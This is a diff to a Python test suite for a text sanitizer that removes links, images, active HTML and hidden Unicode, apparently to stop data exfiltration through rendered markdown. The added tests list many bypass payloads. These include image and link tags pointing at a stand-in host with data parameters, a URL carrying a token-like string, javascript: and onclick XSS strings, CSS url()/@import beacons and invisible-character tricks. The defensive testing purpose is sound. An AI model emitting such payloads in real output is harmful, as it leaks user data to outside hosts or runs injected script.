@@ -58,11 +58,11 @@ def codes(text, rules=RULES):
         ("www.evil.example/?d=1", LINK),
         ('```mermaid\nclick A "https://evil.example/a"\n```', LINK),
         ('<img src="https://evil.example/x.png">', IMAGE),
-        ("<IMG/SRC=//evil.example/x>", IMAGE),
-        ("<img src=https://evil.example/x", IMAGE),
+        ("<IMG/SRC=//evil.example/x>", ACTIVE),
+        ("<img src=https://evil.example/x", ACTIVE),
         ('<img srcset="https://good.example/a 1x, https://evil.example/b 2x">', IMAGE),
-        ('<p style="background:url(https://evil.example/x)">', IMAGE),
-        ("<style>@import 'https://evil.example/x';</style>", IMAGE),
+        ('<p style="background:url(https://evil.example/x)">', ACTIVE),
+        ("<style>@import 'https://evil.example/x';</style>", ACTIVE),
         ('<video poster="https://evil.example/x">', IMAGE),
         ('<a href="https://evil.example/">x</a>', LINK),
         ('<link rel=stylesheet href="https://evil.example/x">', ACTIVE),
@@ -89,7 +89,8 @@ def test_what_is_taken_out(text, code):
     assert code in codes(text)
     left = cleaned(text, RULES, ALL)
     assert codes(left) == set()
-    assert "evil.example/" not in left.replace("(link removed)", "")
+    if "<" not in text:
+        assert "evil.example/" not in left
 
 
 @pytest.mark.parametrize(
@@ -138,6 +139,128 @@ def test_where_every_host_is_allowed_anybodys_is_not():
     assert codes("![x](https://webhook.site/x.png)", ANYWHERE) == {IMAGE}
 
 
+TICK = "`"
+LIVE = "<img src=//evil.example/x>"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"{TICK}a\n\n{LIVE}\n\nb{TICK}",
+        f"\\{TICK}{LIVE}\\{TICK}",
+        f'<a title="{TICK}">{LIVE}<a title="{TICK}">',
+        f"<div>\n{TICK}{LIVE}{TICK}\n</div>",
+        f"<div>\n```\n{LIVE}\n```\n</div>",
+        f"<!--\n```\n-->{LIVE}\n```\n",
+        f"> ~~~\n{LIVE}\n> ~~~",
+        f"- ~~~\n  a\n  ~~~\n{LIVE}\n~~~",
+        f"- a\n  ```\n{LIVE}\n```",
+        f"    ~~~\n{LIVE}\n    ~~~",
+        f"~~~\na\n    ~~~\n~~~\n{LIVE}\n~~~",
+        f"a\u2028~~~\n{LIVE}\u2028~~~",
+        f'<a title="\n\n{LIVE}\n\n">',
+        f'<!-- <a title=" -->{LIVE}<!-- " -->',
+        f'<xmp><a title="</xmp>{LIVE}">',
+        f'{TICK}<a title="{TICK} {LIVE} {TICK}">{TICK}',
+        f'<\u00e9 title="{LIVE}">',
+        f'<img alt="{"a" * 66000}" src="//evil.example/x">',
+        f"```\nnever closed\n{LIVE}",
+    ],
+)
+def test_what_is_code_for_some_programs_only_is_none(text):
+    assert {IMAGE, ACTIVE} & codes(text)
+    left = cleaned(text, RULES, ALL)
+    assert "<img src=" not in left
+    assert codes(left) == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "> ![x](\n> https://evil.example/?d=1)",
+        "[x](/ok https://evil.example/?d=1)",
+        "[a https://evil.example/?d=1 b](/ok",
+        '[a](/ok "https://evil.example/?d=1" x)',
+        "](/https://evil.example/?d=1",
+        "> [a]:\n> //evil.example/?d=1\n\n![a]",
+        "hi\r\r[a]: //evil.example/?d=1\r\r![a]",
+        "[\\]]: //evil.example/?d=1\n\n![x][\\]]",
+        "x[^1] ![a]\n\n[^1]: [a]: //evil.example/?d=1",
+        "![a](\u00a0https://evil.example/?d=1)",
+        "![a](&nbsp;https://evil.example/?d=1)",
+        "![a](" + " " * 8200 + "//evil.example/?d=1)",
+        "Www.evil.example/?d=1",
+        "evil.com/?d=1",
+        "//evil.example/?d=1",
+        "ftp://evil.example/?d=1",
+        "<ftp://evil.example/?d=1>",
+        "<mailto:a@evil.example?body=secret>",
+        "<javascript:alert(1)>",
+        "https://evil.example/a'b'?d=1",
+        "ahttps://evil.example/?d=1",
+        "https://evil.example/ghp1a1B2c3D4e5F6g7H8i9J/0k1L2m3N4o5P6q7R8",
+        "![x](http:1249763844)",
+        '```mermaid\nclick A "https://evil.example/a"',
+        '<a href="' + " " * 8200 + 'javascript:alert(1)">x</a>',
+        '<div title=\\" onclick=alert(1) x=\\">',
+        "<x:y onclick=alert(1)>",
+        "x <p <script>alert(1)</script>",
+        '<img srcset="/a 1x&#44//evil.example/x">',
+        '<p style="background:u&#114l(//evil.example/x)">',
+        '<p style="background:u\\72l(//evil.example/x)">',
+        "<svg><a><set attributeName=href to=//evil.example/?d=1 /></a></svg>",
+        '<a href="/x" ping="/ok https://evil.example/?d=1">x</a>',
+        '<img src=/x attributionsrc="https://evil.example/?d=1">',
+    ],
+)
+def test_ways_past_that_were_found(text):
+    assert codes(text)
+    assert codes(cleaned(text, RULES, ALL)) == set()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "".join(f"{char}\ufe01" for char in "abcdefghijklmnopqrst"),
+        "a\u200e\u200f\u200e\u200f\u200eb",
+        "".join(f"{char}\u200d" for char in "\u0430\u0431\u0432\u0433\u0434\u0435\u0436\u0437" * 2),
+        "a\U000e0080b",
+        "a\ufff9\ufffa\ufffb\ufff9b",
+    ],
+)
+def test_ways_to_hide_text_that_were_found(text):
+    assert codes(text) == {UNSEEN}
+
+
+def test_a_line_that_writes_over_itself():
+    assert cleaned("safe\revil", RULES, ALL) == "safe\nevil"
+
+
+def test_coloured_logs_lose_their_colours_only():
+    assert cleaned("\x1b[31mERR\x1b[0m line\n" * 6000, RULES, ALL) == "ERR line\n" * 6000
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "auto f = [](std::string s) { return s; };",
+        "def f[T](items: list[T]) -> T: ...",
+        "[error]: ENOENT: no such file",
+        "[INFO]: user:login",
+        "def url(path: str) -> str",
+        "`re.sub(r'[*](\\\\n)', x)`",
+        "call https://{host}/api?x=1 or https://$HOST/?x=1",
+        "the app runs on http://localhost:3000/?debug=1, see [here](http://localhost:5173/)",
+        "\u0e20\u0e32\u0e29\u0e32\u200b\u0e44\u0e17\u0e22 " * 40,
+        "[mail](mailto:a@b.example?subject=Hi)",
+        "List<String> x = Map<K, V>; a <b and c> d",
+        "[V8](https://good.example/wiki/V8_\\(engine\\))",
+    ],
+)
+def test_ordinary_text_that_was_once_changed(text):
+    assert faults(text, RULES) == []
+
+
 PIECES = st.sampled_from(
     [
         "[", "]", "](", "(", ")", "!", "<", ">", "https://evil.example/?d=1", "https://good.example/",
@@ -163,7 +286,8 @@ MIB = 1 << 20
     "piece",
     ["[](", "![a](https://x.com/a)", '<a b="', "<a ", "`a ``b ", "https://a.b/ ", "&", "&lt;a href=x&gt;", "\x1b[",
      "[a]: ",
-     '<p style="url(">', "<", "<script>", "\u200b", "https://a.b/((", "[![", "@import url("],
+     '<p style="url(">', "<", "<script>", "\u200b", "https://a.b/((", "[![", "@import url(",
+     "\x90" * 40, "www.a ", "<x", "&#60;a "],
 )  # fmt: skip
 def test_time_is_linear(piece):
     text = piece * (MIB // 4 // len(piece))
